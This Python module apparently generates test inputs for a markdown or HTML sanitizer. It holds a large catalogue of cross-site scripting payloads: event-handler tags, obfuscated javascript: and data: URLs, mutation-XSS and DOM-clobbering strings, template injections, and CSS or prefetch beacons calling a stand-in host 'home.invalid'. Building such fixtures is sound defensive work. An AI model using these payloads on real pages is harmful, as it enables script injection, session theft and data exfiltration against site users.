"""Attacks: texts that would run a script or call home in a page that trusts what it shows. `CALL` is what they run."""

from collections.abc import Iterator
from html import escape

CALL = "attacked()"
HOME = "http://home.invalid/seen"

_TAGS = (
    "img", "svg", "video", "audio", "iframe", "object", "embed", "details", "input", "body", "math", "marquee", "form",
    "a", "button", "style", "link", "base", "meta", "select", "textarea", "table", "dialog", "picture", "source",
)  # fmt: skip
_HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onbegin")
_ADDRESSES = (
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java\tscript:{CALL}", f"java\nscript:{CALL}", f" javascript:{CALL}",
    f"\x01javascript:{CALL}", f"javascript&colon;{CALL}", f"javascript&#58;{CALL}", f"&#106;avascript:{CALL}",
    f"&#x6A;&#x61;vascript:{CALL}", f"javascript://%0a{CALL}", f"vbscript:{CALL}", f"livescript:{CALL}",
    f"data:text/html,<script>{CALL}</script>", "data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>", f"blob:{CALL}",
    f"feed:javascript:{CALL}", f"view-source:javascript:{CALL}", f"//home.invalid/{CALL}", HOME,
    f"https://user:word@home.invalid/?{CALL}", f"jar:{HOME}!/", f"file:///etc/passwd#{CALL}",
    f"\u202ejavascript:{CALL}",
)  # fmt: skip
_CARRIERS = (
    "[press]({})", "![seen]({})", "[press](<{}>)", "[press]: {}\n\n[press]", "<{}>", "{}", "[![seen]({})]({})",
    "![seen]({} \"title\")", "<a href=\"{}\">press</a>", "<img src=\"{}\">", "<iframe src=\"{}\"></iframe>",
    "<form action=\"{}\"><button>press</button></form>", "<object data=\"{}\"></object>", "<base href=\"{}\">",
    "<meta http-equiv=\"refresh\" content=\"0;url={}\">", "<link rel=\"stylesheet\" href=\"{}\">",
    "<svg><a xlink:href=\"{}\"><text y=\"9\">press</text></a></svg>", "<math href=\"{}\">press</math>",
)  # fmt: skip
_OTHERS = (
    f"<script>{CALL}</script>", f"<ScRiPt>{CALL}</sCrIpT>", f"<script src={HOME}></script>",
    f"<<script>{CALL}//<</script>", f"</textarea><script>{CALL}</script>", f"</title><script>{CALL}</script>",
    f"--><script>{CALL}</script>", f"]]><script>{CALL}</script>", f"\"><script>{CALL}</script>",
    f"'-{CALL}-'", f"${{{CALL}}}", f"{{{{{CALL}}}}}", f"`${{{CALL}}}`", f"<%= {CALL} %>", f"#{{{CALL}}}",
    f"{{{{constructor.constructor('{CALL}')()}}}}", f"<template><script>{CALL}</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={CALL}>\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={CALL}&gt;\">",
    f"<svg></p><style><a id=\"</style><img src=1 onerror={CALL}>\">", f"<svg><script>{CALL}</script></svg>",
    f"<svg><foreignObject><body onload={CALL}></foreignObject></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>", f"<svg><set attributeName=href to=javascript:{CALL}>",
    f"<form id=attacked><input name=innerHTML></form><img src=x onerror={CALL}>",
    f"<img name=getElementById><img name=cookie><form name=body></form><img src=x onerror={CALL}>",
    f"<a id=config><a id=config name=url href=javascript:{CALL}>", "<input name=attributes><input name=parentNode>",
    f"<style>@import '{HOME}';</style>", f"<style>*{{background:url({HOME})}}</style>",
    f"<div style=\"background-image:url({HOME})\">seen</div>", f"<p style=\"width:expression({CALL})\">",
    f"<style>@font-face{{font-family:x;src:url({HOME})}}*{{font-family:x}}</style>",
    f"<video poster={HOME}>", f"<audio src={HOME} autoplay>", f"<img srcset=\"{HOME} 1x\">",
    f"<link rel=prefetch href={HOME}>", f"<link rel=dns-prefetch href={HOME}>", f"<a ping={HOME} href={HOME}>press</a>",
    f"```mermaid\ngraph TD; A[\"<img src=x onerror={CALL}>\"]-->B; click A \"javascript:{CALL}\"\n```",
    f"```html\n<script>{CALL}</script>\n```", f"```js\" onmouseover=\"{CALL}\nx\n```",
    f"$$\\href{{javascript:{CALL}}}{{press}}$$", f"\\[\\includegraphics{{{HOME}}}\\]",
    f"| <img src=x onerror={CALL}> |\n|---|\n| [press](javascript:{CALL}) |",
    f"[^1]\n\n[^1]: [press](javascript:{CALL})",
    f"- [ ] <img src=x onerror={CALL}>", f"# <img src=x onerror={CALL}>", f"> <script>{CALL}</script>",
    f"~~<svg onload={CALL}>~~", f"*<img src=x onerror={CALL}>*", f"www.home.invalid/\"onmouseover=\"{CALL}",
    f"\u202e\u2066<script>{CALL}</script>\u2069", f"\ufeff<script>{CALL}</script>", f"<scr\u200bipt>{CALL}</script>",
    f"%3Cscript%3E{CALL}%3C/script%3E", f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"&lt;script&gt;{CALL}&lt;/script&gt;", f"&amp;lt;img src=x onerror={CALL}&amp;gt;",
    f"<!--[if gte IE 4]><script>{CALL}</script><![endif]-->", f"<?xml version=\"1.0\"?><x onload=\"{CALL}\"/>",
    f"<xss id=x tabindex=1 onfocus={CALL} autofocus>", f"<img src=x:alert(1) onerror=eval(src.slice(2))//{CALL}>",
    f"<iframe srcdoc=\"{escape(f'<script>parent.{CALL}</script>')}\"></iframe>",
)  # fmt: skip


def attacks() -> Iterator[str]:
    """Every attack, each in a text of its own."""
    for tag in _TAGS:
        for handler in _HANDLERS:
            yield f'<{tag} src=x href=x {handler}="{CALL}" autofocus tabindex=0>seen</{tag}>'
    for carrier in _CARRIERS:
        for address in _ADDRESSES:
            yield carrier.replace("{}", address)
    yield from _OTHERS


def short_attacks(length: int) -> Iterator[str]:
    """Those that fit into one line of that length, as titles and names have to."""
    return (attack for attack in attacks() if len(attack) <= length and attack.isprintable())
